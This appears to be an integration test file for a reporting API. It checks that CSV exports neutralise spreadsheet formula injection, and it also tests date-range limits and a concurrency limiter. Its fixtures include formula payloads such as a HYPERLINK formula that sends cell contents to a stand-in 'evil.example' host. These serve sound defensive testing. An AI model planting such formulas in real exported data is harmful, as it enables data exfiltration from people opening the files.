import { parse } from 'csv-parse/sync';
import pg from 'pg';
import { ReportLimiter } from '../src/reports/deliver/report-limiter.js';
import { startTestApp, type TestApp } from './support/app.js';
import { createCluster } from './support/factories.js';
import { HistoryBuilder } from './support/history.js';
import { expectProblem } from './support/problem.js';

const CSV_COLUMNS = 23;
/** What a spreadsheet would run as a formula if a cell began with it (OWASP: CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Parses a report's CSV as strictly as csv-parse allows: no loose quotes, the
 * same column count on every row, and any bare CR or LF outside quotes ends a
 * record — as a spreadsheet reads it.
 */
function parseCsv(text: string, delimiter: ',' | ';'): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return parse(text, {
    bom: true,
    delimiter,
    quote: '"',
    escape: '"',
    record_delimiter: ['\r\n', '\r', '\n'],
    relax_quotes: false,
    relax_column_count: false,
    skip_empty_lines: false,
    skip_records_with_error: false,
    trim: false,
  });
}

describe('report CSV against formula injection', () => {
  let t: TestApp;
  let clusterId: string;
  let funderId: string;
  const titles: Record<string, string> = {};
  const hostile = {
    hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    plus: '+1+2',
    minus: '-1+2',
    at: '@SUM(A1:A9)',
    tab: '\t=1+2',
    cr: '\r=1+2',
    crInside: 'Before\r=1+2',
    lfInside: 'Line\nbreak',
    crlfInside: 'Line\r\nbreak',
    semicolon: 'a;b',
    plain: 'Member survey',
  };

  beforeAll(async () => {
    t = await startTestApp();
    const cluster = await createCluster(t, { name: '=Findit' });
    clusterId = cluster.id;
    const funder = await t.api().post('/api/v1/funders').send({ name: '@Funder', kind: 'national_agency' });
    funderId = funder.body.id;
    const funding = await t
      .api()
      .post(`/api/v1/funders/${funderId}/fundings`)
      .send({ clusterId, programme: '=Programme', amount: 1000, startsOn: '2025-01-01', endsOn: '2027-12-31' });
    expect(funding.status).toBe(201);

    // Written straight to the tables: leading tabs and CRs must be safe even in data stored before any input rule.
    const h = new HistoryBuilder(t.dataSource, clusterId);
    // Made through the API today: as they were in 2026-Q2 too (reports take them as of the period's end).
    await h.backdate('cluster', clusterId, '2026-01-01T00:00:00Z');
    await h.backdate('funder', funderId, '2026-01-01T00:00:00Z');
    await h.backdate('funding', funding.body.id as string, '2026-01-01T00:00:00Z');
    const at = [
      { at: '2026-04-10T09:00:00Z', status: 'green' as const, state: 'planned' as const, comment: '=HYPERLINK("http://evil.example")' },
    ];
    for (const title of Object.values(hostile)) {
      titles[await h.item('activity', { title, dueDate: '2026-06-01' }, at)] = title;
    }
    titles[await h.item('low_hanging_fruit', { what: '-Fruit', when: '2026-05-01' }, at)] = '-Fruit';
    const goal = await h.goal({ title: '+Goal', unit: '=U()', baseline: -5, target: 10 }, [{ at: '2026-04-10T09:00:00Z', status: 'red' }]);
    titles[goal] = '+Goal';
    await h.measurement(goal, -6.5, '2026-05-01', '2026-05-02T09:00:00Z');
  });
  afterAll(() => t.close());

  const expectSafe = (rows: string[][], decimal: '.' | ',' = '.') => {
    const [header, ...records] = rows;
    expect(header).toHaveLength(CSV_COLUMNS);
    // Exactly one record per item: no hostile title split a row.
    expect(records).toHaveLength(Object.keys(titles).length);
    const byId = new Map(records.map((r) => [r[4], r]));
    for (const [id, title] of Object.entries(titles)) {
      const row = byId.get(id);
      expect(row).toBeDefined();
      expect(row!).toHaveLength(CSV_COLUMNS);
      expect(row![1]).toBe("'=Findit");
      expect(row![5]).toBe(FORMULA_START.test(title) ? `'${title}` : title);
    }
    // No cell of ours may start a formula; numbers we write are numbers, negative or not.
    const numeric = new Set([9, 14, 15, 16, 18, 19, 20, 21]);
    for (const row of records) {
      row.forEach((cell, column) => {
        if (numeric.has(column) && /^-?\d+([.,]\d+)?$/.test(cell)) return;
        expect({ column, cell, formula: FORMULA_START.test(cell) }).toEqual({ column, cell, formula: false });
      });
    }
    const goal = records.find((r) => r[3] === 'goal')!;
    expect(goal.slice(17, 22)).toEqual(["'=U()", '-5', '10', `-6${decimal}5`, '-10']);
    // The latest comment is user text like a title.
    const activity = records.find((r) => r[3] === 'activity')!;
    expect(activity[22]).toBe(`'=HYPERLINK("http://evil.example")`);
  };

  it('prefixes formula starts with a quote and quotes CR and LF, in the cluster report', async () => {
    const res = await t.api().get(`/api/v1/clusters/${clusterId}/report?period=2026-Q2&format=csv`);
    expect(res.status).toBe(200);
    expectSafe(parseCsv(res.text, ','));
    // A CR or LF is never outside quotes: every line break in a cell is inside a quoted field.
    expect(res.text).toContain('"Before\r=1+2"');
    expect(res.text).toContain(`"Line\nbreak"`);
    expect(res.text).toContain(`"'\r=1+2"`);
  });

  it('does the same in the funder report and with semicolons', async () => {
    const comma = await t.api().get(`/api/v1/funders/${funderId}/report?period=2026-Q2&format=csv`);
    expect(comma.status).toBe(200);
    expectSafe(parseCsv(comma.text, ','));
    const semicolon = await t.api().get(`/api/v1/funders/${funderId}/report?period=2026-Q2&format=csv&delimiter=semicolon`);
    expect(semicolon.status).toBe(200);
    const rows = parseCsv(semicolon.text, ';');
    expectSafe(rows, ',');
    expect(semicolon.text).toContain('"a;b"');
    // The JSON report is data, not a spreadsheet: titles stay as written.
    const json = await t.api().get(`/api/v1/funders/${funderId}/report?period=2026-Q2`);
    expect(json.body.clusters[0].cluster.name).toBe('=Findit');
  });
});

describe('report periods: far dates and REPORT_MAX_DAYS', () => {
  let t: TestApp;
  let clusterId: string;
  let funderId: string;

  beforeAll(async () => {
    t = await startTestApp();
    clusterId = (await createCluster(t)).id;
    funderId = (await t.api().post('/api/v1/funders').send({ name: 'Vinnova', kind: 'national_agency' })).body.id;
  });
  afterAll(() => t.close());

  it.each([
    ['from=2026-01-01&to=9999-12-31', 'to'],
    ['from=2026-01-01&to=3000-01-01', 'to'],
    ['from=2026-01-01&to=9999-12-31T00:00:00Z', 'to'],
    ['from=0001-01-01&to=2026-01-01', 'from'],
    ['from=1899-12-31&to=1900-01-31', 'from'],
    ['from=0000-01-01T00:00:00Z&to=2026-01-01', 'from'],
    ['period=9999', 'period'],
    ['period=9999-H2', 'period'],
    ['period=9999-Q4', 'period'],
    ['period=3000', 'period'],
    ['period=0001', 'period'],
    ['period=1899-Q4', 'period'],
  ])('refuses %s with 400 naming %s, on both reports', async (query, field) => {
    for (const path of [`/api/v1/clusters/${clusterId}/report`, `/api/v1/funders/${funderId}/report`]) {
      const body = expectProblem(await t.api().get(`${path}?${query}`), 400, field);
      expect(body.detail).toMatch(/1900-01-01|1900/);
    }
  });

  it('accepts the first and the last days of the range, unclamped', async () => {
    const first = await t.api().get(`/api/v1/clusters/${clusterId}/report?period=1900`);
    expect(first.status).toBe(200);
    expect(first.body.from).toBe(new Date(Date.parse(first.body.from)).toISOString());
    expect(first.body.from.startsWith('1899-12-31') || first.body.from.startsWith('1900-01-01')).toBe(true);
    const last = await t.api().get(`/api/v1/funders/${funderId}/report?from=2999-01-01&to=2999-12-31&format=csv`);
    expect(last.status).toBe(200);
    const lastJson = await t.api().get(`/api/v1/funders/${funderId}/report?period=2999-Q4`);
    expect(lastJson.body.to).toBe('2999-12-31T22:59:59.999Z');
  });

  it('refuses a period longer than REPORT_MAX_DAYS (3660 by default), naming the parameter', async () => {
    // 2016-01-01 .. 2026-01-07 is 3660 days, both ends counted.
    const ok = await t.api().get(`/api/v1/funders/${funderId}/report?from=2016-01-01&to=2026-01-07`);
    expect(ok.status).toBe(200);
    const body = expectProblem(await t.api().get(`/api/v1/funders/${funderId}/report?from=2016-01-01&to=2026-01-08`), 400, 'to');
    expect(body.detail).toMatch(/3661 days.*3660/);
    expectProblem(await t.api().get(`/api/v1/clusters/${clusterId}/report?from=1950-01-01&to=2049-12-31`), 400, 'to');
    expectProblem(await t.api().get(`/api/v1/clusters/${clusterId}/report?from=1950-01-01T00:00:00Z&to=2049-12-31T00:00:00Z`), 400, 'to');
  });
});

describe('REPORT_MAX_DAYS and a year', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ REPORT_MAX_DAYS: '31' });
  });
  afterAll(() => t.close());

  it('names period when a period is longer than REPORT_MAX_DAYS', async () => {
    const c = await createCluster(t);
    expect((await t.api().get(`/api/v1/clusters/${c.id}/report?from=2026-01-01&to=2026-01-31`)).status).toBe(200);
    const body = expectProblem(await t.api().get(`/api/v1/clusters/${c.id}/report?period=2026-Q1`), 400, 'period');
    expect(body.detail).toMatch(/90 days.*31/);
  });
});

/**
 * Holds every report being built on a lock: reports read low_hanging_fruit in
 * their snapshot, so an ACCESS EXCLUSIVE lock taken by the test makes each
 * report that has started wait in PostgreSQL, where the test can count it.
 */
class ReportHold {
  private client?: pg.Client;

  constructor(private readonly databaseUrl: string) {}

  async take(): Promise<void> {
    this.client = new pg.Client({ connectionString: this.databaseUrl });
    await this.client.connect();
    await this.client.query('BEGIN');
    await this.client.query('LOCK TABLE low_hanging_fruit IN ACCESS EXCLUSIVE MODE');
  }

  async release(): Promise<void> {
    await this.client?.query('ROLLBACK');
    await this.client?.end();
    this.client = undefined;
  }

  /** How many reports are inside PostgreSQL waiting for the lock (that is, have started building). */
  async waiting(): Promise<number> {
    const probe = new pg.Client({ connectionString: this.databaseUrl });
    await probe.connect();
    try {
      const { rows } = await probe.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM pg_locks l JOIN pg_class c ON c.oid = l.relation
         WHERE c.relname = 'low_hanging_fruit' AND NOT l.granted`,
      );
      return rows[0].n;
    } finally {
      await probe.end();
    }
  }
}

async function until(what: string, condition: () => Promise<boolean> | boolean): Promise<void> {
  for (let i = 0; i < 500; i++) {
    if (await condition()) return;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`timed out waiting until ${what}`);
}

describe('REPORT_CONCURRENCY: reports built at once per instance', () => {
  describe('with a short queue timeout', () => {
    let t: TestApp;
    let hold: ReportHold;
    let funderId: string;
    let clusterId: string;

    beforeAll(async () => {
      t = await startTestApp({ REPORT_CONCURRENCY: '2', REPORT_QUEUE_TIMEOUT_MS: '300' });
      hold = new ReportHold(t.databaseUrl);
      clusterId = (await createCluster(t)).id;
      funderId = (await t.api().post('/api/v1/funders').send({ name: 'Vinnova', kind: 'national_agency' })).body.id;
      // A funder report with a cluster in it reads the items (an empty one is answered without them).
      const funding = await t
        .api()
        .post(`/api/v1/funders/${funderId}/fundings`)
        .send({ clusterId, programme: 'Vinnväxt', amount: 1000, startsOn: '2026-01-01', endsOn: '2026-12-31' });
      expect(funding.status).toBe(201);
      // As it was in 2026-Q2 too: reports take fundings as of the period's end.
      await new HistoryBuilder(t.dataSource, clusterId).backdate('funding', funding.body.id as string, '2026-01-01T00:00:00Z');
    });
    afterAll(async () => {
      await hold.release();
      await t.close();
    });

    it('builds up to the limit at once, answers 503 with Retry-After beyond it, and serves the held ones after', async () => {
      const limiter = t.app.get(ReportLimiter);
      await hold.take();
      const first = t
        .api()
        .get(`/api/v1/clusters/${clusterId}/report?period=2026-Q2`)
        .then((r) => r);
      const second = t
        .api()
        .get(`/api/v1/funders/${funderId}/report?period=2026-Q2&format=csv`)
        .then((r) => r);
      // Both are being built at the same time: both wait on the lock inside PostgreSQL.
      await until('two reports wait on the lock', async () => (await hold.waiting()) === 2);
      expect(limiter.active).toBe(2);

      const third = await t.api().get(`/api/v1/clusters/${clusterId}/report?period=2026-Q3`);
      const body = expectProblem(third, 503);
      expect(body.type).toBe('https://styrman.dev/problems/service-unavailable');
      expect(Number(third.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      // The refused report never started: still two in PostgreSQL, none waiting in the queue.
      expect(await hold.waiting()).toBe(2);
      expect(limiter.waiting).toBe(0);
      expect(limiter.active).toBe(2);

      // Requests other than reports are not queued behind them.
      expect((await t.api().get(`/api/v1/clusters/${clusterId}`)).status).toBe(200);
      // A bad period is refused at once, without a slot.
      expectProblem(await t.api().get(`/api/v1/clusters/${clusterId}/report?period=9999`), 400, 'period');

      await hold.release();
      expect((await first).status).toBe(200);
      expect((await second).status).toBe(200);
      expect(limiter.active).toBe(0);
      expect((await t.api().get(`/api/v1/clusters/${clusterId}/report?period=2026-Q3`)).status).toBe(200);
      expect(limiter.active).toBe(0);
    });

    it('frees the slot of a report that fails', async () => {
      const limiter = t.app.get(ReportLimiter);
      for (let i = 0; i < 3; i++) {
        expectProblem(await t.api().get(`/api/v1/clusters/00000000-0000-4000-8000-000000000000/report?period=2026`), 404);
      }
      expect(limiter.active).toBe(0);
      expect((await t.api().get(`/api/v1/clusters/${clusterId}/report?period=2026`)).status).toBe(200);
    });

    it('frees the slot of a streamed report once it is written, also when only its headers are asked for (HEAD)', async () => {
      const limiter = t.app.get(ReportLimiter);
      for (let i = 0; i < 3; i++) {
        expect((await t.api().head(`/api/v1/funders/${funderId}/report?period=2026`)).status).toBe(200);
        expect((await t.api().get(`/api/v1/funders/${funderId}/report?period=2026&format=csv`)).status).toBe(200);
      }
      await until('every slot is free', () => limiter.active === 0);
      expect((await t.api().get(`/api/v1/clusters/${clusterId}/report?period=2026`)).status).toBe(200);
    });
  });

  describe('with REPORT_CONCURRENCY=1 and a long wait', () => {
    let t: TestApp;
    let hold: ReportHold;
    let clusterId: string;

    beforeAll(async () => {
      t = await startTestApp({ REPORT_CONCURRENCY: '1', REPORT_QUEUE_TIMEOUT_MS: '30000' });
      hold = new ReportHold(t.databaseUrl);
      clusterId = (await createCluster(t)).id;
    });
    afterAll(async () => {
      await hold.release();
      await t.close();
    });

    it('queues the reports beyond the limit in order and builds them when a slot frees', async () => {
      const limiter = t.app.get(ReportLimiter);
      await hold.take();
      // Three different reports: pulls of the same running period's report at once would share one build.
      const responses = ['', '&format=csv', '&format=csv&delimiter=semicolon'].map((form) =>
        t
          .api()
          .get(`/api/v1/clusters/${clusterId}/report?period=2026${form}`)
          .then((r) => r),
      );
      await until('one report builds and two wait for a slot', async () => limiter.waiting === 2 && (await hold.waiting()) === 1);
      expect(limiter.active).toBe(1);
      await hold.release();
      for (const res of await Promise.all(responses)) expect(res.status).toBe(200);
      expect({ active: limiter.active, waiting: limiter.waiting }).toEqual({ active: 0, waiting: 0 });
    });
  });
});
